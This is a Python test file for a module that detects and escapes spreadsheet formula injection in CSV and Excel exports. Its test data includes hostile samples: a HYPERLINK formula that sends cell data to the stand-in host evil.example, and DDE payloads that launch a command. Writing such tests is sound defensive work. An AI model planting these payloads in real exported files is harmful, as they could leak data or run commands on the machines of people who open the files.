"""core.formulas: which cells a spreadsheet could run as formulas, and how we write them as text."""

import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from core.formulas import csv_row, csv_text, looks_like_formula, workbook_bytes

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?d="&C2,"x")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\tplain text after a tab",
    "\rplain text after a carriage return",
    "  =1+1",
    "\n=1+1",
    "-",
    "+",
    "=",
]
HARMLESS = ["Plain name", "王小明", "1+1", "a=b", "", "2026-06-01", "ecommerce", "x-@y", " leading space"]
NUMBERS = ["-12.50", "-1", "+3", "-0.5", "-.5", "-1e3", "42", "3.14"]


@pytest.mark.parametrize("value", INJECTIONS)
def test_text_starting_with_a_formula_character_looks_like_a_formula(value):
    assert looks_like_formula(value)


@pytest.mark.parametrize("value", [*HARMLESS, *NUMBERS, None, -12, Decimal("-12.50"), 3.5])
def test_plain_text_and_numbers_do_not(value):
    assert not looks_like_formula(value)


@pytest.mark.parametrize("value", INJECTIONS)
def test_a_csv_cell_gets_a_leading_apostrophe(value):
    assert csv_text(value) == "'" + value


@pytest.mark.parametrize("value", [*HARMLESS, *NUMBERS, None, -12, Decimal("-12.50")])
def test_a_csv_cell_that_is_not_a_formula_is_unchanged(value):
    assert csv_text(value) == value


def test_a_csv_row_escapes_each_cell():
    assert csv_row(["=1+1", "-5", -5, "名"]) == ["'=1+1", "-5", -5, "名"]


def test_a_written_workbook_keeps_the_text_as_text_and_numbers_as_numbers():
    workbook = Workbook()
    workbook.active.append([*INJECTIONS, "Plain name", -12, Decimal("-12.50"), "-12.50"])

    sheet = load_workbook(io.BytesIO(workbook_bytes(workbook))).active
    cells = list(sheet[1])

    for cell, value in zip(cells, INJECTIONS, strict=False):
        assert cell.data_type == "s", value
        assert cell.value.replace("\r", "\n") == value.replace("\r", "\n")
        assert cell.quotePrefix, value
    plain, negative_int, negative_decimal, negative_text = cells[len(INJECTIONS) :]
    assert (plain.value, plain.quotePrefix) == ("Plain name", False)
    assert (negative_int.data_type, negative_int.value) == ("n", -12)
    assert (negative_decimal.data_type, negative_decimal.value) == ("n", -12.5)
    assert (negative_text.data_type, negative_text.quotePrefix) == ("s", False)


def test_the_file_holds_no_formula_element():
    import zipfile

    workbook = Workbook()
    workbook.active["A1"] = "=cmd|' /C calc'!A0"
    workbook.create_sheet("second")["B2"] = '=HYPERLINK("http://evil.example","x")'

    with zipfile.ZipFile(io.BytesIO(workbook_bytes(workbook))) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]

    assert len(sheets) == 2
    assert all(b"<f>" not in xml and b"<f " not in xml for xml in sheets)
